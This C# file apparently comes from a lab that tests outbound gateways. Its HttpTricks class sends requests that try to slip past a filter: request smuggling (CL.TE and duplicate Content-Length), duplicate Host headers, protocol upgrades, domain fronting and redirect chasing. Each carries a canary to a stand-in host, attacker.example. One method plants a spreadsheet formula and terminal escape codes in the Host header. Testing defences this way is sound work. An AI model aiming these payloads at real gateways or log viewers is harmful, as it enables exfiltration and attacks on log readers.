using System.Globalization;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;

namespace Exeat.Lab.Attacks;

/// <summary>Plain HTTP that a gateway which looks once would let go on.</summary>
internal static class HttpTricks
{
    /// <summary>A permitted request, and on the same connection one for another Host, which carries the mark.</summary>
    public static Task<bool> SecondRequestAsync(AttackTarget target) => AfterFirstAsync(
        target, $"GET /canary/{target.Canary} HTTP/1.1\r\nHost: {target.Canary}.attacker.example\r\nConnection: close\r\n\r\n");

    /// <summary>A permitted request whose end servers read differently (CL.TE): the mark travels in what some of them take for the next request.</summary>
    public static Task<bool> SmuggleAsync(AttackTarget target)
    {
        string hidden = $"GET /canary/{target.Canary} HTTP/1.1\r\nHost: {target.Canary}.attacker.example\r\nConnection: close\r\n\r\n";
        return AfterFirstAsync(target, $"POST / HTTP/1.1\r\nHost: {target.Name}\r\nContent-Length: {5 + hidden.Length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}");
    }

    /// <summary>A way out of HTTP: what follows the upgrade would be nobody's request.</summary>
    public static Task<bool> UpgradeAsync(AttackTarget target) => AfterFirstAsync(
        target, $"GET /canary/{target.Canary} HTTP/1.1\r\nHost: {target.Name}\r\nConnection: Upgrade, close\r\nUpgrade: websocket\r\n\r\n");

    /// <summary>The target names another host than the Host field does (RFC 9112, 3.2.2): servers follow the target.</summary>
    public static Task<bool> AbsoluteAsync(AttackTarget target) => FirstAsync(target, $"GET http://{Other(target)}/ HTTP/1.1\r\nHost: {target.Name}\r\n\r\n");

    /// <summary>HTTP/2 from the first byte, in clear: what follows is no text.</summary>
    public static Task<bool> PrefaceAsync(AttackTarget target) => FirstAsync(target, $"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{target.Canary}");

    /// <summary>The way into HTTP/2 in clear (RFC 7540, 3.2), behind a permitted request.</summary>
    public static Task<bool> CleartextHttp2Async(AttackTarget target) => AfterFirstAsync(
        target, $"GET /canary/{target.Canary} HTTP/1.1\r\nHost: {target.Name}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n");

    /// <summary>Two lengths: by the first the mark is a body, by the second a request of its own.</summary>
    public static Task<bool> DoubleLengthAsync(AttackTarget target)
    {
        string hidden = $"GET /canary/{target.Canary} HTTP/1.1\r\nHost: {Other(target)}\r\n\r\n";
        return AfterFirstAsync(target, $"POST / HTTP/1.1\r\nHost: {target.Name}\r\nContent-Length: {hidden.Length}\r\nContent-Length: 0\r\n\r\n{hidden}");
    }

    /// <summary>Two hosts: the permitted one, and the one with the mark.</summary>
    public static Task<bool> DoubleHostAsync(AttackTarget target) => FirstAsync(target, $"GET / HTTP/1.1\r\nHost: {target.Name}\r\nHost: {Other(target)}\r\n\r\n");

    /// <summary>No host at all, as HTTP/1.0 allows.</summary>
    public static Task<bool> NoHostAsync(AttackTarget target) => FirstAsync(target, $"GET /canary/{target.Canary} HTTP/1.0\r\n\r\n");

    /// <summary>Inside TLS to a permitted name a request for another host: domain fronting (T12).</summary>
    public static async Task<bool> FrontingAsync(AttackTarget target) =>
        await GetAsync(new IPEndPoint(await target.ResolveAsync(), target.Port), target.Name, Other(target), $"/canary/{target.Canary}") is not null;

    /// <summary>A permitted page sends its reader elsewhere; the mark travels in the place that it names.</summary>
    public static async Task<bool> RedirectedAsync(AttackTarget target)
    {
        const string elsewhere = "www.unknown-host.example";
        string? answer = await GetAsync(new IPEndPoint(await target.ResolveAsync(), target.Port), target.Name, target.Name, $"/redirect/{elsewhere}/canary/{target.Canary}");
        const string field = "Location: https://";
        int at = answer?.IndexOf(field, StringComparison.Ordinal) ?? -1;
        if (at < 0) throw new IOException("the page sent nobody elsewhere");
        string place = answer![(at + field.Length)..].Split('\r')[0];
        int slash = place.IndexOf('/', StringComparison.Ordinal);
        IPAddress there = (await Dns.GetHostAddressesAsync(place[..slash], target.Family))[0];
        return await GetAsync(new IPEndPoint(there, target.Port), place[..slash], place[..slash], place[slash..]) is not null;
    }

    private static string Other(AttackTarget target) => $"{target.Canary}.attacker.example";

    // The answer's first bytes; null when there were none.
    private static async Task<string?> GetAsync(IPEndPoint to, string serverName, string host, string path)
    {
        using Socket socket = await AttackTarget.ConnectAsync(to);
        await using SslStream secured = AttackTarget.Tls(new NetworkStream(socket));
        using var limit = new CancellationTokenSource(AttackTarget.Patience, TimeProvider.System);
        await secured.AuthenticateAsClientAsync(new SslClientAuthenticationOptions { TargetHost = serverName }, limit.Token);
        await secured.WriteAsync(Encoding.ASCII.GetBytes($"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"), limit.Token);
        byte[] answer = new byte[1024];
        int got = await secured.ReadAsync(answer, limit.Token);
        return got > 0 ? Encoding.ASCII.GetString(answer, 0, got) : null;
    }

    private static async Task<bool> FirstAsync(AttackTarget target, string request)
    {
        using Socket socket = await AttackTarget.ConnectAsync(new IPEndPoint(await target.ResolveAsync(), target.Port));
        using var limit = new CancellationTokenSource(AttackTarget.Patience, TimeProvider.System);
        await socket.SendAsync(Encoding.ASCII.GetBytes(request), limit.Token);
        return await socket.ReceiveAsync(new byte[64], limit.Token) > 0;
    }
    /// <summary>A Host that would clear the terminal of whoever reads the records, and be a formula in a spreadsheet.</summary>
    public static Task<bool> EscapeAsync(AttackTarget target) => AfterFirstAsync(
        target, $"GET /canary/{target.Canary} HTTP/1.1\r\nHost: =cmd|'/c'!A1\u001b[2J\u001b]0;all is well\u0007.{target.Name}\r\nConnection: close\r\n\r\n");

    // Who leaves with an answer unread resets the connection, and the server may never look at what lay behind.
    private static async Task DrainAsync(Socket socket)
    {
        using var limit = new CancellationTokenSource(TimeSpan.FromSeconds(2), TimeProvider.System);
        byte[] rest = new byte[4096];
        try
        {
            while (await socket.ReceiveAsync(rest, limit.Token) > 0)
            {
            }
        }
        catch (Exception over) when (over is SocketException or OperationCanceledException)
        {
            // Reset, or kept open: there is nothing more to hear.
        }
    }

    // To its very end: a body that comes after its head would pass for the answer to what is sent next.
    private static async Task<bool> ReadAnswerAsync(Socket socket, CancellationToken limit)
    {
        const string HeadEnd = "\r\n\r\n", Length = "Content-Length: ";
        byte[] answer = new byte[4096];
        for (int read = 0; read < answer.Length;)
        {
            int more = await socket.ReceiveAsync(answer.AsMemory(read), limit);
            if (more == 0) return false;
            read += more;
            string text = Encoding.ASCII.GetString(answer, 0, read);
            int end = text.IndexOf(HeadEnd, StringComparison.Ordinal), at = text.IndexOf(Length, StringComparison.Ordinal);
            if (end < 0) continue;
            if (at < 0 || at > end) throw new IOException("the first answer does not say how long it is");
            if (read >= end + HeadEnd.Length + int.Parse(text[(at + Length.Length)..].Split('\r')[0], CultureInfo.InvariantCulture)) return true;
        }
        throw new IOException("the first answer is longer than it should be");
    }

    private static async Task<bool> AfterFirstAsync(AttackTarget target, string second)
    {
        using Socket socket = await AttackTarget.ConnectAsync(new IPEndPoint(await target.ResolveAsync(), target.Port));
        using var limit = new CancellationTokenSource(AttackTarget.Patience, TimeProvider.System);
        await socket.SendAsync(Encoding.ASCII.GetBytes($"GET / HTTP/1.1\r\nHost: {target.Name}\r\n\r\n"), limit.Token);
        if (!await ReadAnswerAsync(socket, limit.Token)) return false;
        await socket.SendAsync(Encoding.ASCII.GetBytes(second), limit.Token);
        int answered = await socket.ReceiveAsync(new byte[64], limit.Token);
        await DrainAsync(socket);
        return answered > 0;
    }
}
